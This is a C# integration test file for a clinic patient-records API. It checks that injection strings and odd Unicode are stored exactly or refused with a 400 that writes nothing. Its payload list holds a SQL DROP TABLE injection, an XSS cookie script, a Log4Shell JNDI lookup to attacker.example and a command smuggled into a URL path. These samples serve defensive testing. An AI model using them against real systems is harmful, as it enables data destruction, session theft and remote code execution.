using System.Net;
using System.Text;
using System.Text.Json.Nodes;

namespace Recovery.Integration.Tests;

/// <summary>Input meant to break things: stored and returned as data, or refused with a 4xx that changes nothing.</summary>
[Collection(PlatformCollection.Name)]
public class HostileInputTests(Platform platform)
{
    public static TheoryData<string> Payloads => new()
    {
        "Robert'); DROP TABLE assessment.mt_events;--",
        "<script>alert(document.cookie)</script>",
        "${jndi:ldap://attacker.example/a} {{7*7}} %s%s%n",
        "' OR '1'='1' --",
        "王小明 👩‍⚕️ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
        "Zoe\u0308 \u202Eevil\u202C \u200Dzero-width \uFEFF",
        "line one\nline two\ttabbed",
    };

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task Injection_payloads_and_odd_unicode_are_stored_and_returned_exactly(string text)
    {
        var clinic = platform.ClinicClient("clinic-north");
        var recordNumber = Requests.NewRecordNumber();
        var body = new
        {
            clinicRecordNumber = recordNumber, givenName = text, familyName = text, dateOfBirth = "1990-01-01", sex = "other",
            contact = new { phone = text.Length <= 40 ? text : text[..40], email = text, address = text },
        };
        var created = await clinic.Post("/patients", body);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var patient = (await created.Json())["patientId"]!.GetValue<Guid>();

        var read = await (await clinic.GetAsync($"/patients/{patient}")).Json();
        var registration = read["registration"]!;
        Assert.Equal(text, registration["givenName"]!.GetValue<string>());
        Assert.Equal(text, registration["familyName"]!.GetValue<string>());
        Assert.Equal(text, registration["contact"]!["address"]!.GetValue<string>());
        // The tables are still there and still answer.
        Assert.True(await Platform.Count("select count(*) from assessment.mt_events") > 0);
    }

    [Theory]
    [InlineData("\"Ana\\u0000\"", "givenName")]
    [InlineData("\"Ana\\u0007bell\"", "givenName")]
    [InlineData("\"\\ud800Ana\"", "givenName")]
    [InlineData("\"Ana\\udc00\"", "givenName")]
    public async Task Text_that_cannot_be_stored_faithfully_is_400_naming_the_field_and_writes_nothing(string givenName, string field)
    {
        var before = await Platform.Count("select count(*) from assessment.mt_events");
        var json = $$"""{"clinicRecordNumber":"{{Requests.NewRecordNumber()}}","givenName":{{givenName}},"familyName":"Teste","dateOfBirth":"1990-01-01","sex":"female"}""";
        var response = await platform.ClinicClient("clinic-north").PostAsync("/patients", new StringContent(json, Encoding.UTF8, "application/json"));
        var problem = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{(int)response.StatusCode}: {problem}");
        Assert.NotNull(problem["errors"]![field]);
        Assert.Equal(before, await Platform.Count("select count(*) from assessment.mt_events"));
    }

    [Theory]
    [InlineData("GET", "/patients/not-a-guid")]
    [InlineData("POST", "/patients/1;drop table x/assessments")]
    [InlineData("GET", "/assessments/00000000-0000-0000-0000-00000000000g")]
    public async Task Ids_that_are_not_guids_are_400(string method, string path)
    {
        using var request = new HttpRequestMessage(new HttpMethod(method), path) { Content = new StringContent("{}", Encoding.UTF8, "application/json") };
        var response = await platform.ClinicClient("clinic-north").SendAsync(request);
        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{method} {path}: {(int)response.StatusCode}");
        var timeline = await Platform.ClinicClient(platform.Timeline, "clinic-north").GetAsync("/patients/not-a-guid/timeline");
        Assert.Equal(HttpStatusCode.BadRequest, timeline.StatusCode);
    }

    [Fact]
    public async Task Dates_in_the_future_where_impossible_are_400_and_write_nothing()
    {
        var before = await Platform.Count("select count(*) from assessment.mt_events");
        var tomorrow = DateTime.UtcNow.AddDays(2).ToString("yyyy-MM-dd");
        var response = await platform.ClinicClient("clinic-north").Post("/patients", new
        {
            clinicRecordNumber = Requests.NewRecordNumber(), givenName = "Ana", familyName = "Teste", dateOfBirth = tomorrow, sex = "female",
        });
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.NotNull((await response.Json())["errors"]!["dateOfBirth"]);
        var consent = await Platform.ClinicClient(platform.Timeline, "clinic-north")
            .GetAsync($"/patients/{Guid.NewGuid()}/disclosures?since=not-a-date");
        Assert.Equal(HttpStatusCode.BadRequest, consent.StatusCode);
        Assert.Equal(before, await Platform.Count("select count(*) from assessment.mt_events"));
    }
}
